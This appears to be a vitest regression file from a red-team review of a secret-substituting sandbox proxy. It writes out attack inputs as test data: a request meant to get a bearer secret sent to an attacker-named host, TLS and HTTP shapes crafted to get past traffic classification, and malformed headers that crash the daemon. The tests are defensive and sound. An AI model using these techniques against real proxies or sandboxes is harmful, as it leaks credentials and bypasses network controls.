/**
 * Red-team round 2: holes found in the round-1 fixes, now closed. Each test asserts the secure
 * behaviour and failed before its fix:
 *  A. an HTTP/1.1 origin's duplicate single-value fields or odd status crashed the daemon via h2;
 *  B. a secret value with a line break, substituted into a header, crashed the daemon;
 *  C. the stream after a non-WebSocket 101 (Upgrade: tcp) was relayed unscrubbed;
 *  D. an IP-shaped glob in a secret's hosts matched names;
 *  E. TLS/HTTP shapes the raw-TCP classifier called raw (alert first, odd record version,
 *     leading whitespace, tabs, 8 KiB lines) were piped undecided;
 *  F. the self-address guard compared text.
 * Crash tests record uncaughtException/unhandledRejection in-process: each would end the daemon.
 */
import { spawn, type ChildProcess } from 'node:child_process';
import { mkdtempSync, writeFileSync } from 'node:fs';
import http2 from 'node:http2';
import https from 'node:https';
import net from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import tls from 'node:tls';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { capturedClientHello, Harness, PLACEHOLDER, readUntilClose, SECRET_VALUE } from './proxy-harness.js';
import { loadCaMaterial } from '../../src/proxy/tls/ca.js';
import { CertificateAuthority } from '../../src/proxy/tls/certificate-authority.js';

const crashes: string[] = [];
const onUncaught = (e: unknown) => crashes.push(`uncaughtException: ${(e as Error).message}`);
const onRejection = (e: unknown) => crashes.push(`unhandledRejection: ${(e as Error).message}`);

const ML_PLACEHOLDER = 'SANDCAT_PLACEHOLDER_MULTILINE';
const SETTINGS = {
  network: [
    { action: 'allow', host: 'api.test' },
    { action: 'allow', host: 'raw.test' },
    // A catch-all some users write for "anything, but keep my secrets to their hosts".
    { action: 'allow', host: '*' },
  ],
  secrets: {
    TOKEN: { value: SECRET_VALUE, hosts: ['api.test', '10.9.8.*'] },
    // A multi-line value (PEM key, JSON service account): legal in a body, not in a header.
    MULTILINE: { value: '-----BEGIN KEY-----\nabc\n-----END KEY-----', hosts: ['api.test'] },
  },
};

let h: Harness;
let ca: CertificateAuthority;
const servers: net.Server[] = [];
const seenHeaders: Record<string, unknown>[] = [];
let h1Port = 0; // HTTPS, HTTP/1.1 only, echoes what it received; any Upgrade gets a 101
let rawReply = '';
let rawH1Port = 0; // HTTPS, HTTP/1.1 only, answers every request with `rawReply` verbatim
let echoPort = 0; // plain TCP, silent until it receives bytes, records them
const echoed: Buffer[] = [];
let py: ChildProcess | null = null;
let pyPort = 0;

const listen = (s: net.Server) => new Promise<number>((r) => s.listen(0, '127.0.0.1', () => r((s.address() as net.AddressInfo).port)));
const sleep = (ms: number) => new Promise((r) => setTimeout(r, ms));

beforeAll(async () => {
  process.on('uncaughtException', onUncaught);
  process.on('unhandledRejection', onRejection);
  h = await new Harness({ settings: SETTINGS }).start();
  ca = new CertificateAuthority(await loadCaMaterial(join(h.dir, 'up-state'), join(h.dir, 'up-public')));
  const SNICallback = (name: string, cb: (err: Error | null, ctx?: tls.SecureContext) => void) => void ca.secureContextFor(name).then((c) => cb(null, c), cb);

  const h1 = https.createServer({ SNICallback, ALPNProtocols: ['http/1.1'] }, (req, res) => {
    seenHeaders.push(req.headers);
    res.end(JSON.stringify({ url: req.url }));
  });
  h1.on('upgrade', (req, socket) => {
    seenHeaders.push(req.headers);
    // Docker's attach/exec (`Upgrade: tcp`), kubectl's SPDY, any custom protocol: a raw stream.
    socket.write(`HTTP/1.1 101 UPGRADED\r\nConnection: Upgrade\r\nUpgrade: ${req.headers.upgrade}\r\n\r\n`);
    socket.write(`you sent: ${req.headers.authorization}\n`);
    socket.on('error', () => {});
    setTimeout(() => socket.end(), 200);
  });
  servers.push(h1);
  h1Port = await listen(h1);

  const rawH1 = tls.createServer({ SNICallback, ALPNProtocols: ['http/1.1'] }, (s) => {
    let buf = '';
    s.on('data', (d) => {
      buf += d.toString('latin1');
      if (buf.includes('\r\n\r\n')) s.end(rawReply);
    });
    s.on('error', () => {});
  });
  servers.push(rawH1);
  rawH1Port = await listen(rawH1);

  const echo = net.createServer((s) => {
    s.on('data', (d) => {
      echoed.push(d);
      s.write('got-bytes\n');
    });
    s.on('error', () => {});
  });
  servers.push(echo);
  echoPort = await listen(echo);

  // A real, common HTTP server: python's http.server (also what werkzeug and Django's runserver build on).
  const root = mkdtempSync(join(tmpdir(), 'rt2-py-'));
  writeFileSync(join(root, 'index.html'), 'python-served\n');
  py = spawn('python3', ['-c', 'import http.server,functools,sys\nH=functools.partial(http.server.SimpleHTTPRequestHandler, directory=sys.argv[1])\ns=http.server.HTTPServer(("127.0.0.1",0),H)\nprint(s.server_port,flush=True)\ns.serve_forever()', root], { stdio: ['ignore', 'pipe', 'ignore'] });
  pyPort = await new Promise<number>((resolve) => py!.stdout!.once('data', (d) => resolve(Number(String(d).trim()))));
});

afterAll(async () => {
  await h?.close();
  for (const s of servers) s.close();
  py?.kill();
  process.off('uncaughtException', onUncaught);
  process.off('unhandledRejection', onRejection);
});

beforeEach(() => {
  crashes.length = 0;
  seenHeaders.length = 0;
  echoed.length = 0;
  h.attributed = [];
});

/** One TLS connection to the proxy: write `data`, read until close or `ms`. */
async function tlsExchange(servername: string, data: string, ms = 1500): Promise<string> {
  const s = tls.connect({ host: '127.0.0.1', port: h.proxy.port, servername, ca: h.proxyCaPem, ALPNProtocols: ['http/1.1'] }, () => s.write(data));
  return (await readUntilClose(s, ms)).text;
}

/** One plain TCP connection to the proxy: write `parts`, read until close or `ms`. */
async function tcpExchange(parts: (string | Buffer)[], ms = 1500): Promise<string> {
  const s = net.connect(h.proxy.port, '127.0.0.1', async () => {
    for (const p of parts) {
      s.write(p);
      await sleep(50);
    }
  });
  return (await readUntilClose(s, ms)).text;
}

function h2Session(servername: string): http2.ClientHttp2Session {
  const session = http2.connect(`https://${servername}`, { createConnection: () => tls.connect({ host: '127.0.0.1', port: h.proxy.port, servername, ca: h.proxyCaPem, ALPNProtocols: ['h2'] }) });
  session.on('error', () => {});
  return session;
}

function h2Status(session: http2.ClientHttp2Session, headers: http2.OutgoingHttpHeaders, end = true): Promise<string> {
  return new Promise((resolve) => {
    const st = session.request(headers, { endStream: end });
    const t = setTimeout(() => resolve('no answer'), 2000);
    st.on('response', (hd) => {
      clearTimeout(t);
      resolve(String(hd[':status']));
    });
    st.on('error', (e) => {
      clearTimeout(t);
      resolve(`stream error ${e.message}`);
    });
  });
}

describe('HOLE A: an HTTP/1.1 upstream cannot crash the daemon through an HTTP/2 agent', () => {
  // handle-stream.ts respond(): stream.respond() throws for headers h2 forbids; it runs in the
  // upstream 'response' listener, so the throw is an uncaught exception.
  it.each([
    ['two Content-Type fields', 'HTTP/1.1 200 OK\r\nContent-Type: text/plain\r\nContent-Type: text/html\r\nContent-Length: 2\r\n\r\nok'],
    ['two Date fields', 'HTTP/1.1 200 OK\r\nDate: Mon, 01 Jan 2024 00:00:00 GMT\r\nDate: Mon, 01 Jan 2024 00:00:01 GMT\r\nContent-Length: 2\r\n\r\nok'],
    ['two Location fields', 'HTTP/1.1 302 Found\r\nLocation: /a\r\nLocation: /b\r\nContent-Length: 0\r\n\r\n'],
    ['status 600', 'HTTP/1.1 600 Odd\r\nContent-Length: 2\r\n\r\nok'],
    ['status 101 to a plain GET', 'HTTP/1.1 101 Switching Protocols\r\n\r\nhello'],
  ])('%s: the agent gets an answer, nothing is thrown', async (_name, reply) => {
    rawReply = reply;
    h.dest = { address: '127.0.0.1', port: rawH1Port };
    const session = h2Session('api.test');
    const status = await h2Status(session, { ':path': '/', ':authority': 'api.test' });
    session.destroy();
    await sleep(100);
    expect(crashes).toEqual([]);
    expect(status).toMatch(/^\d{3}$/);
  });
});

describe('HOLE B: a secret whose value holds a newline, put in a header, is refused without a crash', () => {
  it('HTTP/1.1 request (unhandled rejection in handleHttp1Request)', async () => {
    h.dest = { address: '127.0.0.1', port: h1Port };
    const text = await tlsExchange('api.test', `GET /x HTTP/1.1\r\nHost: api.test\r\nX-Key: ${ML_PLACEHOLDER}\r\nConnection: close\r\n\r\n`);
    await sleep(100);
    expect(crashes).toEqual([]);
    expect(text).toMatch(/^HTTP\/1\.1 [45]\d\d /);
  });

  it('HTTP/1.1 WebSocket upgrade (uncaught exception in handleHttp1Upgrade)', async () => {
    h.dest = { address: '127.0.0.1', port: h1Port };
    const text = await tlsExchange('api.test', `GET /ws HTTP/1.1\r\nHost: api.test\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nX-Key: ${ML_PLACEHOLDER}\r\n\r\n`);
    await sleep(100);
    expect(crashes).toEqual([]);
    expect(text).toMatch(/^HTTP\/1\.1 [45]\d\d /);
  });

  it('HTTP/2 extended CONNECT (uncaught exception in handleExtendedConnect)', async () => {
    h.dest = { address: '127.0.0.1', port: h1Port };
    const session = h2Session('api.test');
    const status = await h2Status(session, { ':method': 'CONNECT', ':protocol': 'websocket', ':path': '/ws', ':authority': 'api.test', ':scheme': 'https', 'sec-websocket-version': '13', 'x-key': ML_PLACEHOLDER }, false);
    session.destroy();
    await sleep(100);
    expect(crashes).toEqual([]);
    expect(status).toMatch(/^[45]\d\d$/);
  });
});

describe('HOLE C: the stream after a non-WebSocket 101 is scrubbed', () => {
  it('Upgrade: tcp (Docker attach/exec style): the real value comes back to the agent', async () => {
    h.dest = { address: '127.0.0.1', port: h1Port };
    const text = await tlsExchange('api.test', `POST /exec/1/start HTTP/1.1\r\nHost: api.test\r\nConnection: Upgrade\r\nUpgrade: tcp\r\nAuthorization: Bearer ${PLACEHOLDER}\r\nContent-Length: 0\r\n\r\n`);
    expect(seenHeaders[0]?.authorization).toBe(`Bearer ${SECRET_VALUE}`); // substituted toward its host, as it should be
    expect(text).not.toContain(SECRET_VALUE); // ...but the upstream's echo must not hand it to the agent
  });
});

describe("HOLE D: an IP-shaped glob in a secret's hosts matches IPs only", () => {
  it('hosts ["10.9.8.*"] sends the value to 10.9.8.attacker.test (allowed by a "*" rule)', async () => {
    h.dest = { address: '127.0.0.1', port: h1Port };
    await tlsExchange('10.9.8.attacker.test', `GET /x HTTP/1.1\r\nHost: 10.9.8.attacker.test\r\nAuthorization: Bearer ${PLACEHOLDER}\r\nConnection: close\r\n\r\n`);
    expect(seenHeaders.map((s) => s.authorization)).not.toContain(`Bearer ${SECRET_VALUE}`);
  });
});

describe('HOLE E: TLS and HTTP shapes a lenient server accepts are never relayed undecided', () => {
  it('a warning alert record before the ClientHello (Go crypto/tls accepts it) is not piped to the raw-TCP upstream', async () => {
    h.dest = { address: '127.0.0.1', port: echoPort };
    h.attributed = ['raw.test'];
    const hello = await capturedClientHello('denied-front.test');
    const warning = Buffer.from([0x15, 0x03, 0x03, 0x00, 0x02, 0x01, 0x5a]); // alert: warning, user_canceled
    await tcpExchange([Buffer.concat([warning, hello])], 800);
    expect(Buffer.concat(echoed).includes(Buffer.from('denied-front.test'))).toBe(false);
  });

  it('a ClientHello in a record with version 0x0001 (Go accepts any first-record version < 0x1000) is not piped', async () => {
    h.dest = { address: '127.0.0.1', port: echoPort };
    h.attributed = ['raw.test'];
    const hello = Buffer.from(await capturedClientHello('denied-front.test'));
    hello[1] = 0x00;
    hello[2] = 0x01;
    await tcpExchange([hello], 800);
    expect(Buffer.concat(echoed).includes(Buffer.from('denied-front.test'))).toBe(false);
  });

  it.each([
    ['a leading space', ' GET / HTTP/1.1\r\nHost: denied-front.test\r\nConnection: close\r\n\r\n'],
    ['a leading tab', '\tGET / HTTP/1.1\r\nHost: denied-front.test\r\nConnection: close\r\n\r\n'],
    ['tab separators', 'GET\t/\tHTTP/1.1\r\nHost: denied-front.test\r\nConnection: close\r\n\r\n'],
    ['an unknown method with a request line over 8 KiB', `FETCH /${'a'.repeat(9000)} HTTP/1.1\r\nHost: denied-front.test\r\nConnection: close\r\n\r\n`],
  ])('HTTP with %s reaches python http.server through the raw relay, Host never decided', async (_name, request) => {
    h.dest = { address: '127.0.0.1', port: pyPort };
    h.attributed = ['raw.test'];
    const text = await tcpExchange([request], 1500);
    expect(text).not.toMatch(/^HTTP\/1\.[01] (200|404|501)/); // python answered: the request was relayed
  });
});

describe('HOLE F: the self-address guard compares canonical forms', () => {
  it.each(['fd00:0077::1', 'fd00:77:0::1', '::ffff:a4d:1'])('%s is the tunnel address and counts as local', async (ip) => {
    const { isLocalAddress } = await import('../../src/proxy/upstream/address-guard.js');
    expect(isLocalAddress(ip, ['10.77.0.1', 'fd00:77::1'])).toBe(true);
  });
});
